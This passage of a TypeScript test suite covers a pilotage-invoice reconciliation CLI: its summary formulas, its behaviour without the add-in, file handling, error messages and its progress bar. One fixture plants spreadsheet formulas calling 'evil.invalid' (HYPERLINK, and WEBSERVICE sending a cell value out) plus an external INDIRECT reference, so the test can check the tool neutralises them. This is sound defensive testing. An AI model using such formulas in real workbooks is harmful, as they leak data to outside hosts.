  test("the Summary is live, and without the add-in a recalculated row says \"not computed\", never a flag", async () => {
    await writeInvoiceWorkbook(inFolder("invoices.xlsx"));
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    expect(run("reconcile", "invoices.xlsx", "-o", "checked.xlsx", "--board-rates", "rates.csv").code).toBe(1);
    const workbook = await readWorkbook(inFolder("checked.xlsx"));
    const summaryValue = (evaluated: ReturnType<typeof hyperFormulaFromWorkbook>, label: string) => {
      const rows = evaluated.sheetValues("Summary");
      return rows.find((row) => row[0] === label)?.[1];
    };
    const live = hyperFormulaFromWorkbook(workbook, { config: { useArrayArithmetic: true } });
    try {
      expect(summaryValue(live, "Rows flagged")).toBe(1);
      // Correct Bravo's bill in the sheet (second pilot K3 $1,471.95, launch fee L3 $300.00, total O3 $5,453.12, as
      // computed above): nothing is flagged, four rows match.
      const sheet = live.hf.getSheetId("Reconciliation") as number;
      live.hf.setCellContents({ sheet, row: 2, col: 10 }, 1471.95);
      live.hf.setCellContents({ sheet, row: 2, col: 11 }, 300);
      live.hf.setCellContents({ sheet, row: 2, col: 14 }, 5453.12);
      expect(live.value("Reconciliation!AG3")).toBe("matched");
      expect([summaryValue(live, "Rows flagged"), summaryValue(live, "Rows matched"), summaryValue(live, "Variance (the flagged rows' variances)")]).toEqual([0, 4, 0]);
    } finally {
      live.destroy();
    }
    // A program without the add-in: NYPILOT.* is an unknown name (#NAME?) in every computed cell.
    const without = hyperFormulaFromWorkbook(workbook, { namespace: "NOT_LOADED", config: { useArrayArithmetic: true } });
    try {
      expect(without.value("Reconciliation!U2")).toBeInstanceOf(DetailedCellError);
      for (let row = 2; row <= 7; row++) {
        expect([row, without.value(`Reconciliation!AF${row}`), without.value(`Reconciliation!AG${row}`)]).toEqual([
          row, "not computed", "not checked: not computed (an input cannot be read, or the NYPILOT add-in is not loaded), see Note",
        ]);
      }
      // Six rows, none flagged or matched: all six not checked, and the count still adds up to the rows read.
      expect([summaryValue(without, "Rows flagged"), summaryValue(without, "Rows not checked"), summaryValue(without, "Rows matched")]).toEqual([0, 6, 0]);
      expect(summaryValue(without, "Rows read = matched + flagged + not checked + excluded")).toBe(6);
    } finally {
      without.destroy();
    }
  });

  test("CSV in, .xlsx out: numbers and dates become cells, the formulas recalculate to the cache", async () => {
    const invoices = generateInvoices(60);
    fs.writeFileSync(inFolder("invoices.csv"), invoices.text);
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    const out = run("reconcile", "invoices.csv", "-o", "checked.xlsx", "--board-rates", "rates.csv", "--json");
    expect(out.code).toBe(1);
    expect(JSON.parse(out.stdout).summary).toMatchObject({ rowsRead: 60, malformedRows: 1, rowsFlagged: 3 });
    await expectFormulasMatchCache(inFolder("checked.xlsx"));
    const sheet = (await readWorkbook(inFolder("checked.xlsx"))).getWorksheet("Reconciliation") as ExcelJS.Worksheet;
    // i = 0: 40 units, Section 1, 12 h: $1,070.58 + $300.00 + 50% × $1,070.58 = $535.29 + $345.50 = $2,251.37.
    expect((sheet.getRow(2).values as unknown[]).slice(1, 7)).toEqual(["Vessel 0", 40, "Lower", new Date("2026-06-15T00:00:00Z"), 12, 2251.37]);
    expect(sheet.getCell("A7").value).toBe(INJECTIONS[5]);
  });
});

describe("hudson-pilotage reconcile, an .xlsx input's own formulas and layout", () => {
  test("the input's formulas are copied as their values, never as formulas (WEBSERVICE, HYPERLINK, INDIRECT to another book); rows keep their numbers across an empty row", async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("Calls");
    sheet.addRow(["Units", "Section", "Date", "Base", "Surcharge", "Billed", "Link", "Lookup", "Hours"]);
    // 40 units, Section 1, 2026, 6 h: base $1,070.58, surcharge (0–50 band) $300.00 — billed as their sum by a formula.
    sheet.addRow([40, 1, "2026-03-01", 1070.58, 300, { formula: "D2+E2", result: 1370.58 }, { formula: 'HYPERLINK("http://evil.invalid","x")', result: "x" }, { formula: 'WEBSERVICE("http://evil.invalid/?"&A2)', result: "ok" }, 6]);
    sheet.addRow([]);
    sheet.addRow([40, 1, "2026-03-01", 1070.58, 300, { formula: "D4+E4", result: 1370.58 }, null, { formula: `INDIRECT("'[evil.xlsx]S'"&CHAR(33)&"A1")`, result: 7 }, 6]);
    await workbook.xlsx.writeFile(inFolder("calls.xlsx"));
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    const out = run("reconcile", "calls.xlsx", "-o", "checked.xlsx", "--board-rates", "rates.csv", "--map", "Billed=ignore", "--map", "Link=ignore", "--map", "Lookup=ignore", "--json");
    expect(out.stderr).toBe("");
    expect(out.code).toBe(0);
    expect(JSON.parse(out.stdout).summary).toMatchObject({ rows: 2, rowsChecked: 2, rowsFlagged: 0, billed: "2741.16", computed: "2741.16" });
    await expectFormulasMatchCache(inFolder("checked.xlsx"));
    const result = (await readWorkbook(inFolder("checked.xlsx"))).getWorksheet("Reconciliation") as ExcelJS.Worksheet;
    for (const address of ["F2", "G2", "H2", "F4", "H4"]) expect({ address, formula: result.getCell(address).formula }).toEqual({ address, formula: undefined });
    expect([result.getCell("F2").value, result.getCell("G2").value, result.getCell("H2").value, result.getCell("H4").value]).toEqual([1370.58, "x", "ok", 7]);
    expect(result.getCell("A3").value).toBeNull();
    // The computed base of row 4 refers to row 4's own cells.
    expect(result.getCell("J4").formula).toBe("NYPILOT.HUDSON_BASE_FEE(A4,B4,C4)");
  });
});

describe("hudson-pilotage reconcile: files and exit codes", () => {
  test("never overwrites an existing output unless --force", () => {
    fs.writeFileSync(inFolder("in.csv"), ["Units,Section,Date,Base", "40,1,2026-03-01,1070.58"].join("\n"));
    fs.writeFileSync(inFolder("out.csv"), "precious");
    const refused = run("reconcile", "in.csv", "-o", "out.csv");
    expect(refused.code).toBe(2);
    expect(refused.stderr).toBe('hudson-pilotage reconcile: Output file "out.csv" already exists; use --force to replace it.\n');
    expect(fs.readFileSync(inFolder("out.csv"), "utf8")).toBe("precious");
    const forced = run("reconcile", "in.csv", "-o", "out.csv", "--force");
    expect(forced.code).toBe(0);
    expect(fs.readFileSync(inFolder("out.csv"), "utf8")).toMatch(/^\uFEFFUnits,Section,Date,Base,Computed base pilotage/);
    expect(fs.readdirSync(folder).sort()).toEqual(["in.csv", "out.csv"]);
  });

  test.each([
    [["missing.csv"], /Cannot read "missing.csv": no such file/],
    [["in.ods"], /The input "in.ods" must be a \.csv \(or tab-separated \.txt, \.tsv\) or \.xlsx file/],
    [["in.csv", "-o", "out.json"], /The output "out.json" must be a \.csv, \.xlsx or \.jsonl file \(or give --format\)/],
    [["in.csv", "--map", "Nope=units"], /No column "Nope"; the columns are A "Units"/],
    [["in.csv", "--map", "Units=price"], /"price" is not a field/],
    [["in.csv", "--board-rates", "bad-rates.csv"], /Board rates row 2: the table is "launch": use fees or surcharge/],
    [["in.csv", "--unit", "yards"], /The unit "yards" is not known/],
    [["in.csv", "--bogus"], /Unknown option '--bogus'/],
    [["in.csv", "--at-100", "maybe"], /--at-100 takes "per-unit" or "flat"/],
    [[], /Give the input file/],
    [["in.csv", "in.csv"], /Give one input file, not 2/],
    [["empty.csv"], /"empty.csv" is empty/],
    [["in.csv", "-o", "in.csv"], /must not be the input file/],
  ])("bad input %j: exit 2 and one line on stderr", (args, reason) => {
    fs.writeFileSync(inFolder("in.csv"), ["Units,Section,Date,Base", "40,1,2026-03-01,1070.58"].join("\n"));
    fs.writeFileSync(inFolder("in.ods"), "");
    fs.writeFileSync(inFolder("empty.csv"), "");
    fs.writeFileSync(inFolder("bad-rates.csv"), "table,from,a,b,c\nlaunch,2024-01-01,300,,\n");
    const out = run("reconcile", ...args);
    expect(out.code).toBe(2);
    expect(out.stdout).toBe("");
    expect(out.stderr).toMatch(reason);
    expect(out.stderr.trimEnd().split("\n")).toHaveLength(1);
  });

  test("--help documents the options, the board rates format and the exit codes", () => {
    const out = run("reconcile", "--help");
    expect(out.code).toBe(0);
    for (const text of ["--output", "--board-rates", "--map", "--unit", "--sheet", "--force", "--json", "table,from,a,b,c", "fees,2024-01-01", "surcharge,2020-11-20",
      "billed_midriver_launch", "--round-units", "--at-100", "Exit codes: 0", "$0.01"]) {
      expect(out.stdout).toContain(text);
    }
    expect(run("--help").stdout).toMatch(/reconcile +check invoices row by row/);
  });
});

describe("progress on stderr", () => {
  async function runInProcess(stderrIsTTY: boolean) {
    const invoices = generateInvoices(600);
    // One more malformed row at the end, once the bar has been drawn.
    fs.writeFileSync(inFolder("invoices.csv"), `${invoices.text}Late,1\r\n`);
    fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
    let stdout = "";
    let stderr = "";
    const io: TerminalIo = { stdout: (text) => void (stdout += text), stderr: (text) => void (stderr += text), stderrIsTTY };
    const code = await main(["reconcile", inFolder("invoices.csv"), "-o", inFolder(`out-${stderrIsTTY}.csv`), "--board-rates", inFolder("rates.csv")], io);
    return { code, stdout, stderr };
  }

  /** What a terminal shows for text with carriage returns: each \r rewrites the line from its start. */
  function screen(text: string): string[] {
    const lines: string[] = [];
    let line: string[] = [];
    let cursor = 0;
    for (const char of text) {
      if (char === "\n") {
        lines.push(line.join("").trimEnd());
        line = [];
        cursor = 0;
      } else if (char === "\r") {
        cursor = 0;
      } else {
        line[cursor] = char;
        cursor += 1;
      }
    }
    lines.push(line.join("").trimEnd());
    return lines;
  }

  test("a bar redrawn in place when stderr is a terminal, cleared before other lines and at the end", async () => {
    const out = await runInProcess(true);
    expect(out.code).toBe(1);
    expect(out.stderr).toMatch(/\rreconcile \[#*-*\] \d+% [\d,]+ rows/);
    // On the screen only the skipped-row lines remain, each on its own line; the bar is gone.
    expect(screen(out.stderr)).toEqual([
      "hudson-pilotage reconcile: row 53 skipped: has 7 fields; the header has 6",
      expect.stringMatching(/^hudson-pilotage reconcile: row 104 skipped: field 1 has text after its closing quote/),
      "hudson-pilotage reconcile: row 604 skipped: has 2 fields; the header has 6",
      "",
    ]);
    expect(out.stdout).not.toContain("\r");
  });

  test("no bar when stderr is not a terminal", async () => {
    const out = await runInProcess(false);
    expect(out.code).toBe(1);
    expect(out.stderr).not.toContain("\r");
    expect(out.stderr.trimEnd().split("\n")).toHaveLength(3);
  });
});
